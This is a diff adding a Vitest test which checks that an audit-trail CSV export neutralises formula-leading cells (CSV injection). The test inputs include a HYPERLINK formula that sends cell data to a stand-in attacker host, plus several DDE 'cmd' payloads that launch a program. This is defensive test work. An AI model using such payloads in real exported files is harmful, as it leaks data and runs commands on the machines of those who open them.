@@ -1,0 +1,77 @@
+import { afterAll, beforeAll, describe, expect, it } from 'vitest';
+import type { SensitiveFact } from '../../src/contract/sensitiveFacts.ts';
+import { recordAudit } from '../../src/db/auditTrail.ts';
+import { excelLikeCells } from '../support/excelLike.ts';
+import { createCase, type DemoDirectory, demoDirectory } from '../support/factories.ts';
+import { type ApiClient, startTestServer, type TestServer } from '../support/testServer.ts';
+
+/**
+ * CSV injection (OWASP): the auditor's CSV carries reveal reasons typed by users. Reasons starting
+ * with =, +, - and @ go through the API; text starting with a tab or a carriage return cannot
+ * (typed text is trimmed), so two events carrying such a purpose are written as another path (an
+ * import, an older version) would have. The export, opened with exceljs the way a spreadsheet opens
+ * a CSV (tests/support/excelLike.ts), has no formula, and shows every reason as typed.
+ */
+
+let server: TestServer;
+let dir: DemoDirectory;
+let auditor: ApiClient;
+let hogokansatsu: ApiClient;
+
+beforeAll(async () => {
+  server = await startTestServer();
+  dir = await demoDirectory(server.database.db);
+  [auditor, hogokansatsu] = await Promise.all([server.as('auditor'), server.as('hogokansatsu')]);
+});
+afterAll(() => server.close());
+
+const typedReasons = [
+  '=HYPERLINK("http://attacker.invalid/?d="&A1,"支援方針の確認")',
+  "+cmd|' /C calc'!A0",
+  "-2+3+cmd|' /C calc'!A0",
+  "@SUM(1+1)*cmd|' /C calc'!A0",
+];
+const storedPurposes = ['\t=1+1 タブで始まる', '\r=1+1 改行で始まる'];
+
+describe('CSV exports neutralise formula-leading cells', () => {
+  it('the audit trail CSV, opened as a spreadsheet, has no formula and shows every reason as typed', async () => {
+    const { caseId, personId } = await createCase(server.database.db, dir, {
+      stage: 'assessing',
+      participants: [{ organization: '鹿児島保護観察所', basis: 'planItem' }],
+    });
+    const fact = await hogokansatsu.post<SensitiveFact>('/api/sensitive-facts', {
+      personId,
+      caseId,
+      kind: 'offence',
+      subtype: 'sentenceServed',
+      summary: '（試験）窃盗',
+      details: '（試験）満期釈放',
+    });
+    expect(fact.status).toBe(201);
+    for (const reason of typedReasons) {
+      const revealed = await hogokansatsu.post(`/api/sensitive-facts/${fact.body.id}/reveal`, { reason });
+      expect(revealed.status).toBe(200);
+    }
+    await server.database.db.transaction().execute(async (tx) => {
+      for (const purpose of storedPurposes)
+        await recordAudit(
+          tx,
+          { tenantId: dir.tenantId, actor: null, ip: null },
+          { action: 'print', resourceType: 'case', resourceId: caseId, caseId, details: { purpose } },
+        );
+    });
+
+    const response = await fetch(new URL('/api/audit-events/export?encoding=utf-8', server.url), {
+      headers: { cookie: auditor.cookie ?? '' },
+    });
+    expect(response.status).toBe(200);
+    expect(response.headers.get('content-type')).toContain('text/csv');
+    const rows = await excelLikeCells(Buffer.from(await response.arrayBuffer()));
+    const formulas = rows.flatMap((row) => row.filter((cell) => cell.type === 'formula'));
+    expect(formulas).toEqual([]);
+    const purposeColumn = rows[0]?.findIndex((cell) => cell.shown === '目的') ?? -1;
+    expect(purposeColumn).toBeGreaterThan(0);
+    const purposes = rows.slice(1).map((row) => row[purposeColumn]?.shown);
+    for (const purpose of [...typedReasons, ...storedPurposes]) expect(purposes).toContain(purpose);
+  });
+});
